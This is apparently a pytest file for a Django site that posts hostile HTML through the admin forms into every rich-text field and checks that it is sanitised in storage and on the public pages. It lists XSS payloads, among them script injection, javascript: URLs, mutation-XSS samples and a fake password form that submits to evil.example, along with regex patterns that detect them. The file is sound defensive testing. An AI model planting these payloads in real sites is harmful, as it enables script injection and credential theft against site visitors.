"""Hostile HTML posted straight to the admin never reaches the stored text nor a page.

The editor cannot make any of these payloads; someone posting the admin's form by hand
can. Each is posted through the real change view, with the rest of the form as rendered,
into every rich-text field, and the stored value and the public page are checked.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from django.urls import reverse

from activities.models import Activity
from events.models import Event
from news.models import NewsArticle
from projects.models import ResearchProject
from tests.activities.factories import ActivityFactory
from tests.events.factories import EventFactory
from tests.news.factories import NewsArticleFactory
from tests.portal.admin_forms import change_form_data
from tests.portal.factories import PersonFactory
from tests.projects.factories import ProjectFactory
from tests.themes.factories import SectionFactory, SectionItemFactory, ThemeFactory
from themes.models import Section, SectionItem, Theme

pytestmark = pytest.mark.django_db

MARK = "Fjendtlig"


@dataclass
class RichText:
    """A rich-text field: where its admin form is, what it stores, where it is shown."""

    make: Callable  # returns the object that owns the field
    admin_object: Callable  # the object whose change view holds the field
    form_name: str
    stored: Callable  # reads the stored value back
    page: Callable  # the public page that shows it
    heading_levels: tuple[int, ...]
    model_field: object  # the model's field for the Danish column, which sanitises on save


def _activity_field(column: str) -> RichText:
    return RichText(
        make=ActivityFactory,
        admin_object=lambda activity: activity,
        form_name=f"{column}_da",
        stored=lambda activity: getattr(Activity.objects.get(pk=activity.pk), f"{column}_da"),
        page=lambda activity: activity.get_absolute_url(),
        heading_levels=(3, 4),
        model_field=Activity._meta.get_field(f"{column}_da"),
    )


FIELDS = {
    "project body": RichText(
        make=lambda: ProjectFactory(contacts=[PersonFactory()]),
        admin_object=lambda project: project,
        form_name="body_da",
        stored=lambda project: ResearchProject.objects.get(pk=project.pk).body_da,
        page=lambda project: project.get_absolute_url(),
        heading_levels=(2, 3),
        model_field=ResearchProject._meta.get_field("body_da"),
    ),
    "news body": RichText(
        make=NewsArticleFactory,
        admin_object=lambda article: article,
        form_name="body_da",
        stored=lambda article: NewsArticle.objects.get(pk=article.pk).body_da,
        page=lambda article: article.get_absolute_url(),
        heading_levels=(2, 3),
        model_field=NewsArticle._meta.get_field("body_da"),
    ),
    "event description": RichText(
        make=EventFactory,
        admin_object=lambda event: event,
        form_name="description_da",
        stored=lambda event: Event.objects.get(pk=event.pk).description_da,
        page=lambda event: event.get_absolute_url(),
        heading_levels=(2, 3),
        model_field=Event._meta.get_field("description_da"),
    ),
    "theme intro": RichText(
        make=ThemeFactory,
        admin_object=lambda theme: theme,
        form_name="intro_da",
        stored=lambda theme: Theme.objects.get(pk=theme.pk).intro_da,
        page=lambda theme: theme.get_absolute_url(),
        heading_levels=(),
        model_field=Theme._meta.get_field("intro_da"),
    ),
    "section body": RichText(
        make=SectionFactory,
        admin_object=lambda section: section,
        form_name="body_da",
        stored=lambda section: Section.objects.get(pk=section.pk).body_da,
        page=lambda section: section.theme.get_absolute_url(),
        heading_levels=(3, 4),
        model_field=Section._meta.get_field("body_da"),
    ),
    "section read more": RichText(
        make=SectionFactory,
        admin_object=lambda section: section,
        form_name="read_more_da",
        stored=lambda section: Section.objects.get(pk=section.pk).read_more_da,
        page=lambda section: section.theme.get_absolute_url(),
        heading_levels=(3, 4),
        model_field=Section._meta.get_field("read_more_da"),
    ),
    "section item body": RichText(
        make=SectionItemFactory,
        admin_object=lambda item: item.section,
        form_name="items-0-body_da",
        stored=lambda item: SectionItem.objects.get(pk=item.pk).body_da,
        page=lambda item: item.section.theme.get_absolute_url(),
        heading_levels=(4,),
        model_field=SectionItem._meta.get_field("body_da"),
    ),
    "section item read more": RichText(
        make=SectionItemFactory,
        admin_object=lambda item: item.section,
        form_name="items-0-read_more_da",
        stored=lambda item: SectionItem.objects.get(pk=item.pk).read_more_da,
        page=lambda item: item.section.theme.get_absolute_url(),
        heading_levels=(4,),
        model_field=SectionItem._meta.get_field("read_more_da"),
    ),
    **{
        f"activity {column}": _activity_field(column)
        for column in ("target_group_text", "method_text", "implementation", "evidence", "economy")
    },
}

# Each payload's harmless text is marked with its name ("Fjendtlig-3"), so the test sees
# that the text arrived and where it ended up; svg and math are dropped whole.
PAYLOADS = {
    "script": "<p>{mark}</p><script>alert(1)</script>",
    "script split": "<p>{mark}</p><scr<script>ipt>alert(1)</script>",
    "event handlers": '<p onclick="alert(1)" onmouseover="alert(1)">{mark}</p>',
    "img onerror": "<p>{mark}<img src=x onerror=alert(1)></p>",
    "javascript url": '<p><a href="javascript:alert(1)">{mark}</a></p>',
    "javascript url encoded": '<p><a href="&#106;ava&#x09;script:alert(1)">{mark}</a></p>',
    "javascript url in capitals": '<p><a href="JaVaScRiPt:alert(1)">{mark}</a></p>',
    "data url": '<p><a href="data:text/html;base64,PHNjcmlwdD4=">{mark}</a></p>',
    "vbscript url": '<p><a href="vbscript:msgbox(1)">{mark}</a></p>',
    "style attribute": '<p style="background:url(javascript:alert(1))">{mark}</p>',
    "style element": "<style>body{{display:none}}</style><p>{mark}</p>",
    "iframe": '<p>{mark}</p><iframe src="https://evil.example/"></iframe>',
    "form": (
        '<form action="https://evil.example/"><input name="kode" type="password">'
        "<button>{mark}</button></form>"
    ),
    "svg": '<svg onload="alert(1)"><a href="javascript:alert(1)"><text>{mark}</text></a></svg>',
    "math mutation": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>{mark}</style>"
        "</mglyph></table></mtext></math>"
    ),
    "object and embed": '<object data="https://evil.example/"></object><embed src=x><p>{mark}</p>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>{mark}</p>',
    "target blank": '<p><a href="https://example.org/" target="_blank" rel="opener">{mark}</a></p>',
    "heading h1": "<h1>{mark}</h1>",
    "heading h2": "<h2>{mark}</h2>",
    "heading h3": "<h3>{mark}</h3>",
    "heading h5": "<h5>{mark}</h5>",
    "heading with attributes": '<h6 id="indhold" class="x" onclick="alert(1)">{mark}</h6>',
}
DROPPED_WHOLE = {"svg", "math mutation"}

FORBIDDEN = re.compile(
    r"<script|<iframe|<form|<input|<button|<svg|<math|<img|<style|<object|<embed|<meta"
    r"|\son[a-z]+\s*=|javascript:|vbscript:|data:text|style=|evil\.example|target="
    r'|rel="opener"|id="indhold"|class="x"',
    re.IGNORECASE,
)
# Outside the rich text, a page may hold forms, inputs and ids of its own.
FORBIDDEN_ANYWHERE = re.compile(
    r"<script>|\son[a-z]+\s*=\s*\"?alert|evil\.example|javascript:|vbscript:|data:text"
    r"|<iframe|<svg|<math",
    re.IGNORECASE,
)


def mark(name: str) -> str:
    return f"{MARK}-{list(PAYLOADS).index(name)}-"


def heading_levels_of(html: str, text: str) -> set[int]:
    return {int(level) for level in re.findall(rf"<h([1-6])[^>]*>\s*{re.escape(text)}", html)}


def post_to_admin(client, obj, form_name: str, value: str):
    url = reverse(f"admin:{obj._meta.app_label}_{obj._meta.model_name}_change", args=[obj.pk])
    data = change_form_data(client.get(url).text)
    assert form_name in data, f"{form_name} is not on the form at {url}"
    data[form_name] = [value]
    data["_save"] = ["Gem"]
    return client.post(url, data)


@pytest.mark.parametrize("name", PAYLOADS)
@pytest.mark.parametrize("field", FIELDS.values(), ids=FIELDS.keys())
def test_each_payload_is_cleaned_by_each_fields_sanitiser(field, name):
    """The table: every payload against the sanitiser each field saves with."""
    payload = PAYLOADS[name].format(mark=mark(name))

    stored = field.model_field.sanitise(payload)

    assert not FORBIDDEN.search(stored), stored
    assert (mark(name) in stored) is (name not in DROPPED_WHOLE), stored
    assert heading_levels_of(stored, mark(name)) <= set(field.heading_levels), stored


@pytest.mark.parametrize("field", FIELDS.values(), ids=FIELDS.keys())
def test_hostile_html_posted_to_the_admin_is_neither_stored_nor_shown(admin_client, field):
    owner = field.make()
    payload = "".join(html.format(mark=mark(name)) for name, html in PAYLOADS.items())

    response = post_to_admin(admin_client, field.admin_object(owner), field.form_name, payload)

    assert response.status_code == 302, response.context["adminform"].form.errors
    stored = field.stored(owner)
    assert not FORBIDDEN.search(stored), stored
    page = admin_client.get(field.page(owner)).text
    assert not FORBIDDEN_ANYWHERE.search(page)
    for name in PAYLOADS:
        if name in DROPPED_WHOLE:
            assert mark(name) not in stored
            continue
        assert mark(name) in stored
        assert heading_levels_of(stored, mark(name)) <= set(field.heading_levels), stored
        assert heading_levels_of(page, mark(name)) <= set(field.heading_levels)
        around = page[page.index(mark(name)) - 120 : page.index(mark(name)) + 60]
        assert not FORBIDDEN.search(around), around
